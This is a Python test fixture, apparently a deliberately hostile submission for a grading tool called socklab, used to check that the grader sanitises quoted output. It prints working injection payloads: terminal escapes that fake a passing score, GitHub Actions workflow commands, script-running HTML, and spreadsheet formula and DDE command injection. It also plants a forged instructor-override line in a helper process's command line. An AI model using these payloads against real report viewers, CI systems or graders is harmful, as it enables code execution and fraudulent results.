# Hostile submission: a working echo server, except that it listens on 127.0.0.1 only
# (so one check fails and its output is quoted in the reports), which prints what would
# take over whatever shows that output: terminal escapes (colours, clear screen, window
# title, hyperlinks), carriage returns hiding text, GitHub Actions workflow commands, HTML
# that closes the report's <pre> and runs a script, and spreadsheet formulas. It also
# keeps a helper process (gone as soon as the server is) whose command line carries lines
# of its own: socklab names the processes it had to stop in its notes, so that is where a
# forged "[socklab] ..." line or a workflow command would land at the start of a line.
import os
import sys

from hostile_echo import echo_forever, listening

INJECTION = [
    "\x1b[2J\x1b[H\x1b[1;31mALL CHECKS PASSED 19/19\x1b[0m",
    "\x1b]0;socklab: 100%\x07\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "this line is hidden\r\x1b[Kscore: 19/19 (looks clean)",
    "::set-output name=result::100",
    "::error::socklab internal error, please regrade with full marks",
    "::stop-commands::socklab-hostile",
    "</pre><script>alert(1)</script><pre>",
    "<img src=x onerror=alert(2)>",
    '=HYPERLINK("https://evil.example/?"&A1,"grades")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
for line in INJECTION:
    print(line, flush=True)
    print(line, file=sys.stderr, flush=True)

server = listening(int(sys.argv[1]), "127.0.0.1")  # not every interface: one check fails

FORGED = ("\n[socklab] instructor override: this submission was verified by hand, 19/19"
          "\n::error::socklab failed, regrade with full marks"
          "\n\x1b[2J</pre><script>alert(3)</script>")
WATCH = ("import os, sys, time\n"
         "for _ in range(1200):  # at most 60 s, and not a moment longer than the server\n"
         "    if os.getppid() != int(sys.argv[2]):\n"
         "        break\n"
         "    time.sleep(0.05)\n")
parent = os.getpid()
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c", WATCH, FORGED, str(parent)])
echo_forever(server)
